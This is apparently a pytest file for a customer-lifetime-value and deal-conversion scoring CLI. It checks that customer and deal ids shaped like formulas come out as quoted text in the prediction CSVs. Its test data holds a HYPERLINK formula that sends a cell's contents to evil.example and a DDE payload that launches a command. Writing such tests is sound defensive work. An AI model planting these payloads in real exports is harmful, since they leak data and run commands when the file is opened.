"""Prediction CSVs are opened in Excel or Sheets by revenue ops: a customer or deal id copied from
a CRM export must not become a formula there (`=HYPERLINK(...)` as a company name runs on open)."""

from __future__ import annotations

import csv

import pandas as pd

from tests.scoring.test_cli import clv_train_and_predict

EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"Invoice")'


def _cells(path):
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


def _is_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "@", "\t", "\r") or (cell[:1] == "-" and not _number(cell))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_a_customer_named_like_a_formula_is_written_as_text_by_clv_predict(csvs, tmp_path, run):
    tx = pd.read_csv(csvs["tx"])
    first = tx["cust"].iloc[0]
    tx["cust"] = tx["cust"].astype(str)
    tx.loc[tx["cust"] == str(first), "cust"] = EVIL
    tx.loc[tx.index[-1], "cust"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    tx.to_csv(csvs["tx"], index=False)
    _, preds = clv_train_and_predict(csvs, tmp_path, run)
    cells = _cells(preds)
    assert "'" + EVIL in cells  # kept, readable, as text
    assert not [c for c in cells if _is_formula(c)]


def test_a_deal_id_like_a_formula_is_written_as_text_by_model_predict(csvs, tmp_path, run):
    out = tmp_path / "m"
    res = run("model", "train", "--task", "conversion", "--data", str(csvs["train"]), "--target", "won",
              "--id-column", "deal_id", "--fast", "--out", str(out))
    assert res.exit_code == 0, res.stderr
    test = pd.read_csv(csvs["test"])
    test["deal_id"] = test["deal_id"].astype(str)
    test.loc[0, "deal_id"] = EVIL
    test.loc[1, "deal_id"] = "-2+3"
    test.to_csv(csvs["test"], index=False)
    preds = tmp_path / "p.csv"
    res = run("model", "predict", "--model", str(out), "--data", str(csvs["test"]), "--out", str(preds))
    assert res.exit_code == 0, res.stderr
    cells = _cells(preds)
    assert "'" + EVIL in cells and "'-2+3" in cells
    assert not [c for c in cells if _is_formula(c)]
    frame = pd.read_csv(preds)
    assert frame["prediction"].between(0, 1).all()  # numbers stay numbers
